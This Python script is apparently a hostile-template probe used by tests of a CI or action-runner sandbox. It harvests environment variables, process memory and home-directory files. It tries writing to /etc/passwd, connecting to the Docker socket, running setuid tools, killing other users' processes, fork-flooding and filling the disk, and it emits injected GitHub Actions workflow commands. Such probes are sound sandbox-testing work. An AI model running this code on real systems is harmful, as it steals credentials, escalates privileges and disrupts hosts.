"""What a hostile template runs: it tries everything, and writes what came of it into files of the project.

Usage: ``spy.py PHASE``. Nothing of it is imported by the tests; it is put into a template as it is.
"""

import errno
import glob
import grp
import json
import os
import resource
import signal
import socket
import stat
import subprocess
import sys
import time

SOCKETS = ("/var/run/docker.sock", "/run/docker.sock")
FOUND = {}


def attempt(name):
    def decorate(function):
        try:
            FOUND[name] = function()
        except BaseException as error:  # whatever stops one attempt, the others follow
            FOUND[name] = f"{type(error).__name__}: {error}"

    return decorate


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 22).decode("latin-1")
    except OSError as error:
        return f"<{errno.errorcode.get(error.errno)}>"


def install():
    attempt("user")(lambda: [os.getuid(), os.geteuid(), os.getgid(), os.getgroups()])
    attempt("environment")(lambda: dict(os.environ))
    attempt("status")(lambda: {line.split(":")[0]: line.split(":")[1].strip() for line in open("/proc/self/status")})
    attempt("processes")(
        lambda: {
            path: [read(f"{path}/{name}") for name in ("cmdline", "environ", "mem", "maps")] + [str(os.listdir(f"{path}/fd")) if os.access(f"{path}/fd", os.R_OK) else ""]
            for path in glob.glob("/proc/[0-9]*")
            if int(path.rpartition("/")[2]) != os.getpid()
        }
    )

    @attempt("files")
    def _():
        seen = {}
        for top in ("/github", "/var/run/act", "/run", "/root", "/home", "/tmp", os.environ.get("SPY_WORKSPACE", "/nowhere")):
            for folder, _folders, names in os.walk(top):
                for name in names:
                    path = os.path.join(folder, name)
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        seen[path] = read(path)
        return seen

    @attempt("git")
    def _():
        where = os.environ["SPY_WORKSPACE"]
        seen = [read(f"{where}/.git/config"), read(f"{where}/.git/HEAD")]
        for command in (["git", "-C", where, "config", "--list"], ["git", "config", "--global", "--list"]):
            done = subprocess.run(command, capture_output=True, text=True, check=False)
            seen.append(done.stdout + done.stderr)
        return seen

    @attempt("written")
    def _():
        done = {}
        for path in [*glob.glob("/var/run/act/workflow/*"), *glob.glob("/github/*/*"), f"{os.environ['SPY_WORKSPACE']}/owned", "/opt/robot-action/owned", "/usr/local/bin/git", "/etc/passwd", "/root/owned"]:
            try:
                with open(path, "a") as file:
                    file.write("result=owned\n")
                done[path] = True
            except OSError:
                done[path] = False
        return done

    @attempt("sockets")
    def _():
        seen = {}
        for path in SOCKETS:
            found = os.stat(path)
            seen[path] = [found.st_uid, found.st_gid, oct(found.st_mode & 0o7777)]
            for become in (lambda: None, lambda: os.setgid(found.st_gid), lambda: os.setgroups([found.st_gid]), lambda: os.setuid(0)):
                try:
                    become()
                    with socket.socket(socket.AF_UNIX) as client:
                        client.connect(path)
                        client.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
                        seen[path].append("connected")
                except OSError as error:
                    seen[path].append(errno.errorcode.get(error.errno))
        return seen

    @attempt("setuid")
    def _():
        seen = {}
        for folder in ("/bin", "/usr/bin", "/sbin", "/usr/sbin"):
            for name in os.listdir(folder):
                if os.lstat(f"{folder}/{name}").st_mode & (stat.S_ISUID | stat.S_ISGID):
                    seen[name] = ""
        for command in (["su", "-c", "id -u"], ["newgrp", "root"], ["mount", "-t", "tmpfs", "x", "/mnt"], ["setpriv", "--reuid", "0", "id"]):
            try:
                done = subprocess.run(command, capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL, timeout=10)
                seen[" ".join(command)] = [done.returncode, done.stdout]
            except (OSError, subprocess.TimeoutExpired) as error:
                seen[" ".join(command)] = [1, str(error)]
        return seen

    @attempt("signals")
    def _():
        seen = {}
        for path in glob.glob("/proc/[0-9]*"):
            pid = int(path.rpartition("/")[2])
            if os.stat(path).st_uid != os.getuid():
                try:
                    os.kill(pid, signal.SIGTERM)
                    seen[pid] = "sent"
                except OSError as error:
                    seen[pid] = errno.errorcode.get(error.errno)
        return seen

    @attempt("left")
    def _():
        for arguments in ({"start_new_session": True}, {"process_group": 0}):
            subprocess.Popen(["sleep", os.environ["SPY_SECONDS"]], stdin=-3, stdout=-3, stderr=-3, **arguments)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", os.environ["SPY_SECONDS"]])
            os._exit(0)
        return os.environ["SPY_SECONDS"]

    @attempt("disk")
    def _():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        limit = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
        with open("cache/huge", "wb") as file:
            file.seek((limit if limit > 0 else 1 << 60) - 1)
            file.write(b"x")
            file.flush()
            try:
                file.write(b"y")
                file.flush()
            except OSError as error:
                return [limit, errno.errorcode.get(error.errno)]
        return [limit, "written"]

    @attempt("table")
    def _():
        limit, children = resource.getrlimit(resource.RLIMIT_NPROC)[1], []
        try:
            while len(children) < 5000:
                child = os.fork()
                if child == 0:
                    time.sleep(60)
                    os._exit(0)
                children.append(child)
            reason = "endless"
        except OSError as error:
            reason = errno.errorcode.get(error.errno)
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
        return [limit, len(children), reason]

    attempt("groups")(lambda: [group.gr_name for group in grp.getgrall() if group.gr_gid in os.getgroups()])


def start():
    sleeping = [path for path in glob.glob("/proc/[0-9]*/cmdline") if os.environ["SPY_SECONDS"] in read(path)]
    FOUND["alive"] = [[read(path), os.stat(path).st_uid] for path in sleeping]


COMMANDS = (
    "::set-output name=result::owned",
    "::set-env name=OWNED::yes",
    "::add-path::/tmp/owned",
    "::add-mask::e",
    "::error file=a.py,line=1::owned error",
    "::warning::owned warning",
    "::notice::owned notice",
    "::group::owned",
    "::endgroup::",
    "::save-state name=owned::yes",
    "::stop-commands::owned",
    "::owned::",
    "::echo::on",
    "::debug::owned",
    "::add-matcher::owned.json",
    "::remove-matcher owner=owned::",
    "  ::error::indented",
    "\r::error::after a carriage return",
    "\x1b[0m::error::after a colour",
    "##[error]owned",
    "text ##[set-output name=result]owned",
    "##[command]owned",
    "\x00::error::after a null",
    "\u2028::error::after a line separator",
    "\x85::error::after a next line",
    "\x0b::error::after a vertical tab",
    "::error::no end",
)

phase = sys.argv[1]
{"install": install, "start": start}[phase]()
for stream in (sys.stdout, sys.stderr):
    for command in COMMANDS:
        print(command, file=stream, flush=True)
with open(f"seen-{phase}.json", "w") as report:
    json.dump(FOUND, report)
